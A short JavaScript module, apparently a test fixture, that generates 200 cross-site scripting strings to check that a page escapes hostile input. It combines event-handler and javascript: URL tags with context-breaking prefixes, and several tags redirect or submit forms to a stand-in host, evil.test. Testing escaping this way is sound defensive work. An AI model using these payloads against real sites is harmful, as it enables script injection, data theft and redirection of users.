// Strings that would do something if the page took them for anything but text.
const tags = [
  'img src=x onerror=alert(1)',
  'script>alert(1)</script',
  'svg onload=alert(1)',
  'iframe src=javascript:alert(1)',
  'body onload=alert(1)',
  'details open ontoggle=alert(1)',
  'a href=javascript:alert(1)',
  'style>*{display:none}</style',
  'base href=//evil.test/',
  'meta http-equiv=refresh content=0;url=//evil.test/',
  'form action=//evil.test',
  'input autofocus onfocus=alert(1)',
  'video><source onerror=alert(1)></video',
  'math href=javascript:alert(1)',
  'object data=javascript:alert(1)',
  'embed src=javascript:alert(1)',
  'link rel=stylesheet href=//evil.test/x.css',
  'template><script>alert(1)</script></template',
  'noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'xss onclick=alert(1) style=position:fixed;inset:0',
];
const breaks = ['"', "'", '</title>', '-->', ']]>', '`', '${alert(1)}', '{{7*7}}', '\\u003c', '&lt;'];

/** 200 strings. */
export const hostile = tags.flatMap((tag) => breaks.map((end) => `${end}<${tag}>`));
/** All of them if REEL_ALL is set, otherwise one of each tag and break. */
export const someHostile = process.env.REEL_ALL ? hostile : breaks.map((end, i) => `${end}<${tags[2 * i]}>`);
